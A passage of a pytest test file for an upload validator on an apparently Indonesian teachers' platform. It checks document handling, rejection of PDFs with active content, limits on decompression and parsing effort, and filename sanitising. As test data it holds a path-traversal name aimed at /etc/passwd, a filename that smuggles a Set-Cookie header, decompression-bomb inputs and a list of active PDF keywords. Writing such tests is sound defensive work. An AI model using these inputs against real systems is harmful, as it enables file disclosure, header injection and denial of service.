        pytest.param(lambda: OLE2, "terkunci.xlsx", ".xls", "application/vnd.ms-excel", id="encrypted-xlsx-is-ole"),
        pytest.param(lambda: ooxml("word/document.xml"), "rpp.zip", ".docx", DOCX, id="docx-named-zip"),
        pytest.param(harmless_pdf, "modul.pdf", ".pdf", "application/pdf", id="pdf-that-only-looks-active"),
        pytest.param(
            lambda: packed(b"/OpenAction[3 0 R/Fit]", {4: LINK}),
            "modul.pdf",
            ".pdf",
            "application/pdf",
            id="pdf-packed",
        ),
        pytest.param(weasyprint_pdf, "rpp.pdf", ".pdf", "application/pdf", id="pdf-from-weasyprint"),
        pytest.param(pillow_pdf, "pindaian.pdf", ".pdf", "application/pdf", id="pdf-from-pillow"),
    ],
)
def test_documents_are_kept_byte_for_byte(make, name, extension, content_type):
    data = make()
    result = upload(data, name)
    assert (result.kind, result.extension, result.content_type) == ("file", extension, content_type)
    assert result.content == data
    assert (result.thumbnail, result.width, result.height) == (None, None, None)
    assert result.original_name.endswith(extension) or result.original_name.lower().endswith(extension)


# PDFs: active content is refused, within a bounded effort


ACTIVE_NAMES = {"/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/RichMedia", "/XFA", "/AA", "/GoToE", "/SubmitForm"}


def names_in(value, seen, found):
    if id(value) in seen:
        return
    seen.add(id(value))
    if isinstance(value, pypdf.generic.IndirectObject):
        names_in(value.get_object(), seen, found)
    elif isinstance(value, dict):
        for key, item in value.items():
            found.add(str(key))
            names_in(item, seen, found)
    elif isinstance(value, list):
        for item in value:
            names_in(item, seen, found)
    elif isinstance(value, pypdf.generic.NameObject):
        found.add(str(value))


# pypdf insists on /Type/ObjStm; readers that locate object streams by /N and /First do not.
@pytest.mark.parametrize("case", sorted({**ACTIVE_PDFS, **HIDDEN_PDFS}.keys() - {"pdf-object-stream-without-type"}))
def test_active_pdfs_are_what_they_claim(case):
    """A PDF reader, following the document from its catalog, meets the active content:
    the corpus holds real documents, not bytes the check happens to look for."""
    reader = pypdf.PdfReader(io.BytesIO({**ACTIVE_PDFS, **HIDDEN_PDFS}[case]()))
    found = set()
    names_in(reader.trailer["/Root"], set(), found)
    assert found & ACTIVE_NAMES


def test_harmless_pdfs_open_in_a_reader():
    for make in (harmless_pdf, weasyprint_pdf, pillow_pdf):
        assert len(pypdf.PdfReader(io.BytesIO(make())).pages) >= 1


def test_object_streams_are_inflated_only_up_to_the_budget(monkeypatch):
    inflated = []
    real = zlib.decompressobj

    class Counting:
        def __init__(self, *args):
            self.inner = real(*args)

        def decompress(self, data, max_length=0):
            out = self.inner.decompress(data, max_length)
            inflated.append(len(out))
            return out

        def __getattr__(self, name):
            return getattr(self.inner, name)

    monkeypatch.setattr(pdfcheck.zlib, "decompressobj", Counting)
    with pytest.raises(UploadRejected, match=UNCHECKED_PDF):
        upload(packed(b"", {4: b"<<>>"}, pad=100 * MB), "bom.pdf")
    assert 0 < sum(inflated) <= pdfcheck.MAX_INFLATED + 1


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"<<>>" * 2_000_000, id="two-million-dictionaries"),
        pytest.param(b"(" * 4_000_000, id="four-million-nested-strings"),
        pytest.param(b"<<" * 4_000_000, id="four-million-levels-deep"),
        pytest.param(b"%\n" * 4_000_000, id="four-million-comments"),
    ],
)
def test_a_pdf_made_of_millions_of_parts_is_refused(body):
    # Each part costs the check a step: past the budget it gives up instead of working on.
    with pytest.raises(UploadRejected, match=UNCHECKED_PDF):
        upload(b"%PDF-1.7\n" + body, "banyak.pdf")


def test_a_teachers_pdf_about_javascript_is_accepted():
    # Words in strings and page content are text, not active content.
    result = upload(one_page(b"/Lang(id)/PageLabels<</Nums[0<</P(JavaScript /JS /AA)>>]>>"), "Modul JavaScript.pdf")
    assert result.extension == ".pdf"


def test_upload_is_read_from_the_start():
    uploaded = SimpleUploadedFile("rpp.pdf", MINIMAL_PDF)
    uploaded.read(10)  # a form or validator may have peeked already
    assert process_upload(uploaded, max_bytes=LIMIT).content == MINIMAL_PDF


@pytest.mark.parametrize(
    ("name", "extension", "shown"),
    [
        ("../../etc/passwd.jpg", ".jpg", "passwd.jpg"),
        ("C:\\Users\\guru\\Desktop\\RPP Kelas 7.docx", ".docx", "RPP Kelas 7.docx"),
        ("", ".pdf", "berkas.pdf"),
        ("..", ".pdf", "berkas.pdf"),
        ("dir/", ".pdf", "berkas.pdf"),
        (".pdf", ".pdf", "berkas.pdf"),
        ("\x00\x01\x1f", "", "berkas"),
        ("laporan\r\nSet-Cookie: x.pdf", ".pdf", "laporanSet-Cookie: x.pdf"),
        ("  foto   kelas  .jpg ", ".jpg", "foto kelas.jpg"),
        ("scan", ".jpg", "scan.jpg"),
        ("versi.1.2.final", ".pdf", "versi.1.2.pdf"),
        ("Tugas Bahasa Indonésia.pdf", ".pdf", "Tugas Bahasa Indonésia.pdf"),
    ],
)
def test_display_name(name, extension, shown):
    assert display_name(name, extension=extension) == shown


def test_display_name_is_never_longer_than_120():
    for name in ("x" * 500, "x" * 500 + ".pdf", "x." + "y" * 300):
        assert 0 < len(display_name(name, extension=".pdf")) <= 120
